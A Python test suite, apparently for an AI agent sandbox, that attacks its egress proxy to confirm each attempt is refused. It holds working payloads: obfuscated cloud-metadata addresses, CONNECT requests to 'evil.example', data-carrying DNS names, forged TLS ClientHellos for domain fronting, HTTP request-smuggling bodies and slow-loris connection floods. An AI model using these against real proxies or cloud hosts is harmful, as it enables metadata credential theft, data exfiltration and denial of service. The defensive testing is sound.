# Copyright (c) 2026 the telclauded authors
# SPDX-License-Identifier: ISC
#
# Attacks in Python on the network: around the proxy, and through it.  Run by
# Bash in the real family; the web is that of lib/webserver.py.
import os
import re
import socket
import ssl
import struct
import threading
import time
import urllib.parse

from attack import E, attack, one, run_all

DNS, META, PROXY = "DNS", "metadata", "the proxy"
FRONT, REBIND, REDIR = "domain fronting", "DNS rebinding", \
    "redirect to private"
SMUGGLE, SLOW = "request smuggling", "slow-loris"
# A namespace without routes, or no such socket at all.
OUT = "ENETUNREACH EHOSTUNREACH ECONNREFUSED EAFNOSUPPORT ENOSYS EINVAL " \
    "EADDRNOTAVAIL"
GOOD, WEB, NS, HOST = (E["T_" + k] for k in ("GOOD", "WEB", "NS", "HOST"))
P = urllib.parse.urlsplit(E["https_proxy"])
CA = ssl.create_default_context(cafile=E["T_CA"])


class Refused(OSError):
    """By the proxy, in its own words."""
    def __init__(self, why):
        super().__init__(1, why)


# --- around it ------------------------------------------------------------------------
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
    finally:
        s.close()


QUERY = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\7example\3org\0\0\1\0\1"


def udp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    try:
        s.connect((host, port))
        s.send(QUERY)
        s.recv(512)
    except socket.timeout:
        return "no answer"
    finally:
        s.close()


for name, host in (("the name server", NS), ("another", WEB),
                   ("a public one", "198.51.100.53"),
                   ("the container's", "127.0.0.11"),
                   ("the stub's", "127.0.0.53"), ("its own", "127.0.0.1")):
    for port in (53, 853):
        one(DNS, "never", "tcp %d of %s" % (port, name),
            lambda h=host, p=port: tcp(h, p), OUT)
        one(DNS, "never", "udp %d of %s" % (port, name),
            lambda h=host, p=port: udp(h, p), OUT)
one(DNS, "never", "udp over IPv6", lambda: udp(
    "2001:db8:30::53", 53, socket.AF_INET6), OUT)
one(DNS, "never", "DoH by address", lambda: tcp(WEB, 443), OUT)
one(DNS, "never", "multicast DNS", lambda: udp("224.0.0.251", 5353), OUT)


def lookup(fn):
    try:
        fn()
    except (socket.gaierror, socket.herror):
        raise Refused("no such name")


one(DNS, "never", "getaddrinfo", lambda: lookup(
    lambda: socket.getaddrinfo("example.org", 443)))
one(DNS, "never", "gethostbyname", lambda: lookup(
    lambda: socket.gethostbyname("example.org")))
one(DNS, "never", "resolv.conf of its own", lambda: open(
    "/etc/resolv.conf", "a").close())
one(DNS, "never", "resolv.conf replaced", lambda: os.rename(
    "/etc/resolv.conf", "/etc/x"))
one(DNS, "twin", "localhost",
    lambda: socket.getaddrinfo("127.0.0.1", 80) and None)
ADDRS = ("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376",
         "169.254.43518", "169.16689662", "100.100.100.200", "168.63.129.16",
         "169.254.170.2")
ADDR6 = ("::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "fd00:ec2::254",
         "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "::169.254.169.254",
         "fd20:ce::254", "fe80::a9fe:a9fe")
for a in ADDRS:
    one(META, "never", a, lambda a=a: tcp(a, 80), OUT)
for a in ADDR6:
    one(META, "never", a, lambda a=a: tcp(a, 80, socket.AF_INET6), OUT)
for what, host, port in (("the web", WEB, 443), ("the host", HOST, 443),
                         ("the Bot API", E["T_TG"], 443),
                         ("the model server", E["T_API"], 443)):
    one(PROXY, "never", "around it to " + what,
        lambda h=host, p=port: tcp(h, p), OUT)


# --- through it ------------------------------------------------------------------------
def dial(timeout=15):
    return socket.create_connection((P.hostname, P.port), timeout)


def head(s):
    got = b""
    while b"\r\n\r\n" not in got and len(got) < 65536:
        b = s.recv(4096)
        if not b:
            break
        got += b
    return got


def status(got):
    m = re.match(rb"HTTP/1\.[01] (\d+)", got)
    return int(m.group(1)) if m else 0


def refused(got):
    """None was let through: an answer of the proxy's, with a reason."""
    n = status(got)
    if n in (0, 400, 403, 408, 417, 431, 502, 503, 505):
        raise Refused(got[:200].decode("latin-1"))
    return "status %d" % n


def connect(target, host=None):
    s = dial()
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (
        target, host or target)).encode("latin-1"))
    return s, head(s)


def tunnel(target):
    s, got = connect(target)
    try:
        if status(got) != 200:
            refused(got)
    finally:
        s.close()


def raw(data, wait=True):
    s = dial()
    try:
        s.sendall(data)
        if not wait:
            return b""
        got = head(s)
        s.settimeout(0.05)
        try:                    # its body, as far as it is there
            got += s.recv(65536)
        except OSError:
            pass
        return got
    finally:
        s.close()


def get(url, host=None, extra=""):
    got = raw(("GET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (
        url, host or urllib.parse.urlsplit(url).netloc, extra)).encode(
            "latin-1"))
    if status(got) not in (200, 302):
        refused(got)


def whole(name, path="/", sni=None):
    """TLS through the tunnel, as any client would."""
    s, got = connect(name + ":443")
    if status(got) != 200:
        refused(got)
    try:
        t = CA.wrap_socket(s, server_hostname=sni or name)
    except (OSError, ssl.SSLError) as e:
        raise Refused(str(e))
    t.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (
        path, name)).encode())
    got = head(t)
    t.close()
    if status(got) != 200:
        return "status %d" % status(got)


one(PROXY, "twin", "CONNECT and TLS to a name of the list",
    lambda: whole(GOOD))
one(PROXY, "twin", "plain HTTP to one", lambda: get("http://%s/" % GOOD))
for t in ("evil.example:443", "api.telegram.org:443", "api.anthropic.com:443",
          GOOD + ":22", GOOD + ":25", GOOD + ":80", GOOD + ":53",
          "sub." + GOOD + ":443", GOOD + ".evil.example:443",
          WEB + ":443", NS + ":53", NS + ":853", HOST + ":443",
          "127.0.0.1:8790", "localhost:3128", "[::1]:8790", "0:8790",
          "127.1:8790", E["T_TG"] + ":443", GOOD + ".:443",
          GOOD + "@evil.example:443", "evil.example:443#" + GOOD,
          GOOD + "\0.evil.example:443", "xn--" + GOOD + ":443", ":443",
          GOOD + ":0", GOOD + ":65536", GOOD + ":443:443", GOOD):
    one(PROXY, "never", "CONNECT " + t.replace("\0", "NUL"),
        lambda t=t: tunnel(t))
for a in ADDRS + tuple("[%s]" % x for x in ADDR6):
    one(META, "never", "CONNECT " + a, lambda a=a: tunnel(a + ":443"))
    one(META, "never", "GET " + a, lambda a=a: get(
        "http://%s/latest/meta-data/" % a))
one(META, "twin", "GET of the list", lambda: get("http://%s/" % GOOD))
one(DNS, "never", "DoH by address through the proxy",
    lambda: tunnel(WEB + ":443"))
for n in ("a" * 60 + ".evil.example", "data-carried-out.evil.example"):
    one(DNS, "never", "a question that carries data: " + n[-24:],
        lambda n=n: tunnel(n + ":443"))


# --- what follows CONNECT ----------------------------------------------------------------
def hello(name):
    c = ssl.create_default_context()
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = c.wrap_bio(i, o, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return o.read()


def grown(rec, ext):
    """The ClientHello with one more extension."""
    body = rec[9:]
    at = 2 + 32
    at += 1 + body[at]
    at += 2 + struct.unpack(">H", body[at:at + 2])[0]
    at += 1 + body[at]
    n = struct.unpack(">H", body[at:at + 2])[0]
    body = body[:at] + struct.pack(">H", n + len(ext)) + body[at + 2:] + ext
    out = b"\1" + struct.pack(">I", len(body))[1:] + body
    recs = b""
    while out:
        recs += rec[:3] + struct.pack(">H", len(out[:16384])) + out[:16384]
        out = out[16384:]
    return recs


def after(data):
    """Bytes after a good CONNECT; only the server would answer."""
    s, got = connect(GOOD + ":443")
    if status(got) != 200:
        return "the way in is shut: %s" % got[:60]
    try:
        s.sendall(data)
        s.settimeout(14)
        b = s.recv(100)
        # An alert is the proxy's own, so that a client can say why.
        if b and (b[0] != 0x15 or s.recv(100)):
            return "the server answered: %r" % b
    except ConnectionResetError:
        pass
    finally:
        s.close()
    raise Refused("cut")


EVIL = "evil.example"
one(FRONT, "twin", "the right name", lambda: whole(GOOD))
one(FRONT, "never", "another server's name", lambda: after(hello(EVIL)))
one(FRONT, "never", "another of the list",
    lambda: after(hello(E["T_SECOND"])))
one(FRONT, "never", "no name", lambda: after(hello(None)))
one(FRONT, "never", "a name below", lambda: after(hello("x." + GOOD)))
one(FRONT, "never", "a hidden hello (ECH)", lambda: after(grown(
    hello(GOOD), b"\xfe\x0d\0\x0a" + b"\0" * 10)))
one(FRONT, "never", "two names", lambda: after(grown(
    hello(GOOD), struct.pack(">HHHBH", 0, 5 + len(EVIL), 3 + len(EVIL), 0,
                             len(EVIL)) + EVIL.encode())))
one(FRONT, "never", "a hello of 20 KiB", lambda: after(grown(
    hello(GOOD), struct.pack(">HH", 21, 20000) + b"\0" * 20000)))
one(FRONT, "never", "no TLS: HTTP", lambda: after(
    b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"))
one(FRONT, "never", "no TLS: SSH", lambda: after(b"SSH-2.0-x\r\n"))
one(FRONT, "never", "no TLS: TLS of long ago", lambda: after(
    b"\x80\x2e\1\0\2\0\x15\0\0\0\x10" + b"\0" * 40))
one(FRONT, "never", "Host other than the URL", lambda: get(
    "http://%s/" % GOOD, host=EVIL))
one(FRONT, "never", "two Hosts", lambda: get(
    "http://%s/" % GOOD, extra="Host: %s\r\n" % EVIL))
one(FRONT, "never", "CONNECT with another Host", lambda: refused(connect(
    GOOD + ":443", EVIL)[1]) if status(connect(GOOD + ":443", EVIL)[1])
    != 200 else "200")

# --- names that turn -----------------------------------------------------------------------
for n in ("private.example", "meta.example", "loop.example", "host.example"):
    one(REBIND, "never", "CONNECT " + n, lambda n=n: tunnel(n + ":443"))
    one(REBIND, "never", "GET " + n, lambda n=n: get("http://%s/" % n))
one(REBIND, "twin", "a name that does not", lambda: get("http://%s/" % GOOD))


def follow(path):
    """As curl -L does, by the same proxy."""
    got = raw(("GET http://%s%s HTTP/1.1\r\nHost: %s\r\nConnection: close"
               "\r\n\r\n" % (GOOD, path, GOOD)).encode())
    m = re.search(rb"(?i)location: (\S+)", got)
    if not m:
        return "no redirect: %s" % got[:80]
    get(m.group(1).decode())


for p in ("/to-metadata", "/to-private", "/to-evil", "/to-self"):
    one(REDIR, "never", p, lambda p=p: follow(p))
one(REDIR, "twin", "the redirect itself", lambda: get(
    "http://%s/to-evil" % GOOD))


# --- two readings of one request --------------------------------------------------------------
def post(fields, body, after=b""):
    data = ("POST http://%s/echo HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (
        GOOD, GOOD, "".join(f + "\r\n" for f in fields))).encode("latin-1")
    s = dial()
    s.settimeout(3)
    got = b""
    try:
        s.sendall(data + body + after)
        while True:
            b = s.recv(65536)
            if not b:
                break
            got += b
    except (socket.timeout, ConnectionResetError):
        pass
    finally:
        s.close()
    return got


NEXT = b"GET http://evil.example/smuggled HTTP/1.1\r\n" \
    b"Host: evil.example\r\n\r\n"
INNER = b"GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"


@attack(SMUGGLE, "twin", "one length")
def _():
    got = post(["Content-Length: 5", "Connection: close"], b"hello")
    return None if status(got) == 200 and got.endswith(b"hello") else \
        repr(got[:80])


for name, fields, body in (
        ("length and chunks", ["Content-Length: 4",
                               "Transfer-Encoding: chunked"],
         b"0\r\n\r\n" + INNER),
        ("chunks and length", ["Transfer-Encoding: chunked",
                               "Content-Length: 4"], b"0\r\n\r\n" + INNER),
        ("two lengths", ["Content-Length: 0",
                         "Content-Length: %d" % len(INNER)], INNER),
        ("a list of lengths", ["Content-Length: 0, 5"], b"hello"),
        ("a signed length", ["Content-Length: +5"], b"hello"),
        ("an octal-looking length", ["Content-Length: 0x5"], b"hello"),
        ("a negative one", ["Content-Length: -1"], INNER),
        ("a huge one", ["Content-Length: 99999999999999999999"], INNER),
        ("chunked twice", ["Transfer-Encoding: chunked, chunked"],
         b"0\r\n\r\n"),
        ("another coding", ["Transfer-Encoding: xchunked"], b"0\r\n\r\n"),
        ("a folded field", ["Transfer-Encoding:\r\n chunked"],
         b"0\r\n\r\n" + INNER),
        ("a space before the colon", ["Transfer-Encoding : chunked"],
         b"0\r\n\r\n" + INNER),
        ("a bare line feed", ["X: y\nTransfer-Encoding: chunked"],
         b"0\r\n\r\n" + INNER),
        ("a NUL in a field", ["X: a\0b", "Content-Length: 0"], b""),
        ("a chunk size that is none", ["Transfer-Encoding: chunked"],
         b"5;\n\r\nhello\r\n0\r\n\r\n"),
        ("a negative chunk", ["Transfer-Encoding: chunked"],
         b"-5\r\nhello\r\n0\r\n\r\n"),
        ("a protocol upgrade", ["Connection: Upgrade",
                                "Upgrade: websocket"], b"")):
    one(SMUGGLE, "never", name, lambda f=fields, b=body: refused(post(f, b)))
for name, fields, body in (
        ("a second request to another host",
         ["Content-Length: 5"], b"hello"),
        ("a second one behind chunks", ["Transfer-Encoding: chunked"],
         b"5\r\nhello\r\n0\r\n\r\n")):
    def second(f=fields, b=body):
        got = post(f, b, NEXT)
        if b"smuggled" in got or len(re.findall(
                rb"HTTP/1.1 200", got)) > 1:
            return "two answers: %r" % got[:200]
        raise Refused("one answer")
    one(SMUGGLE, "never", name, second)


# --- those who do not finish ----------------------------------------------------------------
slow = []


def drip(data, step):
    """A byte a while; how the proxy ended it."""
    end = time.time() + 25
    try:
        s = dial()
        if b"CONNECT" in data[:8]:
            s.sendall(data)
            head(s)
            data = b"\x16\x03\x01\x02\x00" + b"\1" * 500
        s.settimeout(step)
        for i in range(len(data)):
            s.sendall(data[i:i + 1])
            try:
                b = s.recv(4096)
                slow.append("408" if b" 408 " in b[:20] else "cut" if not
                            b or b[0] == 0x15 else repr(b[:30]))
                return
            except socket.timeout:
                pass
            if time.time() > end:
                break
        slow.append("never ended")
    except OSError as e:
        slow.append("cut" if isinstance(e, ConnectionError) else repr(e))


LONG = b"GET http://%s/ HTTP/1.1\r\nX: " % GOOD.encode() + b"x" * 400
threads = [threading.Thread(target=drip, args=(d, 0.3)) for d in (
    [LONG] * 12 + [b"CONNECT %s:443 HTTP/1.1\r\n\r\n" % GOOD.encode()] * 6)]
for t in threads:
    t.start()
one(SLOW, "twin", "others are served beside 18 slow ones",
    lambda: whole(GOOD))


@attack(SLOW, "never", "18 that send a byte a while")
def _():
    for t in threads:
        t.join()
    if set(slow) <= {"408", "cut"} and len(slow) == len(threads):
        raise Refused("in time")
    return repr(sorted(set(slow)))


one(SLOW, "twin", "and after them", lambda: whole(GOOD))


@attack(SLOW, "twin", "600 that say nothing, and then others again")
def _():
    held = []
    try:
        for _ in range(600):
            held.append(dial(0.5))
    except OSError:
        pass                            # no room for more is an answer
    for s in held:
        s.close()
    end = time.time() + 10
    while True:
        try:
            return whole(GOOD)
        except OSError:
            if time.time() > end:
                raise
            time.sleep(0.1)


run_all()
